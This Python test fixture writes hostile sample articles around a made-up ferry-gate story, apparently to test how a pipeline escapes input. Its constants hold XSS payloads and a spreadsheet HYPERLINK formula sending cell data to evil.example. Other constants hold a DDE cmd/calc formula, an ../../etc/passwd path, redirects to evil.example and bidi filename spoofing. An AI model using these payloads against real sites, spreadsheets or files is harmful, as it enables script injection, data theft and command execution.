"""Articles that try to break out: mark-up, scripts, addresses that run, control and bidi characters, formulas.

They tell one small story, so that every page has something of them to show.
"""

from __future__ import annotations

import json

SCRIPT = "<script>alert('text')</script>"
IMAGE = '"><img src=http://evil.example/x.png onerror=alert(1)>'
SVG = "<svg onload=alert(2)><a xlink:href='javascript:alert(3)'>x</a></svg>"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BIDI = "\u202egnp.exe\u202c \u2066isolate\u2069 \u200f"
CONTROL = "\x00 nul \x1b[31mred\x1b[0m \x07 bell \x9b31m \u2028 line"
ENDING = "</title></style></script></textarea><!-- ]]> --><base href=http://evil.example/>"
LONG = "A headline without an end " * 40_000  # 1 MB
_TOLD = (
    "The harbour master of Aldwater, {name}, said on Tuesday that the ferry company had opened the gates too early. "
    "\u201cNobody asked us, and nobody will pay for the nets {image}\u201d, {name} told the Aldwater Post.\n\n"
    "The company denied that it had opened the gates. It accused the town of sending {svg} boats without lights, and"
    " the spokesman, {name} {script}, said \u201c{formula} is no answer to the people of Aldwater\u201d.\n\n"
    "{template} {bidi} {control} {ending}\n\n"
    "Fishermen blocked the second gate on Wednesday, 13 March 2024, and the mayor said that talks would begin in April."
)


def text(name: str = "Tom <b onmouseover=alert(4)>Ruck</b>") -> str:
    """Return the text of a hostile article; `name` is who speaks."""
    return _TOLD.format(
        name=name,
        image=IMAGE,
        svg=SVG,
        script=SCRIPT,
        formula=FORMULA,
        template=TEMPLATE,
        bidi=BIDI,
        control=CONTROL,
        ending=ENDING,
    )


def write(folder) -> None:
    """Write the articles into `folder`: JSON lines, a page, a text with its metadata."""
    rows = [
        {
            "origin": f"evil/{SCRIPT}.txt",
            "text": text(),
            "title": f"Gates opened {SCRIPT}{IMAGE}",
            "outlet": FORMULA,
            "byline": BIDI + IMAGE,
            "url": "javascript:alert(5)",
            "published": "2024-03-12T10:00:00Z",
        },
        {
            "origin": "evil/../../etc/passwd",
            "text": text().replace("too early", "much too early").replace("Nobody asked", "Nobody ever asked"),
            "title": LONG,
            "outlet": f"Post {SVG}{ENDING}",
            "url": "https://example.org/?q=" + IMAGE,
            "published": "2024-03-12T12:00:00+05:30",
        },
        {
            "origin": "@SUM(1+1)*cmd|' /C calc'!A0",
            "text": text("Tom Ruck").replace("Tuesday", "Monday"),
            "title": f"+1+1 {TEMPLATE}{CONTROL}",
            "outlet": "-2+3",
            "published": "2024-03-13",
        },
        {"origin": "unrelated", "text": f"{SCRIPT} {CONTROL}", "title": ENDING, "outlet": BIDI},
    ]
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "dump.jsonl").write_text(lines, encoding="utf-8")
    told = "".join(c for c in text("Tom Ruck") if c.isprintable() or c.isspace())
    body = "".join(f"<p>{paragraph}</p>" for paragraph in told.split("\n\n"))
    page = (
        f"<html><head><title>Gates {SVG}</title><meta http-equiv=refresh content='0;url=http://evil.example/'>"
        "<meta property='og:site_name' content='<script>alert(6)</script>'>"
        "<link rel=canonical href='javascript:alert(7)'></head>"
        f"<body onload=alert(8)><article><h1>Gates opened {SCRIPT}</h1>{body}</article></body></html>"
    )
    (folder / "page.html").write_text(page, encoding="utf-8", errors="surrogatepass")
    (folder / "broken.html").write_bytes(b"<html>\x00\xff<svg/onload=alert(9)>" + b"\xc0\xaf" * 50)
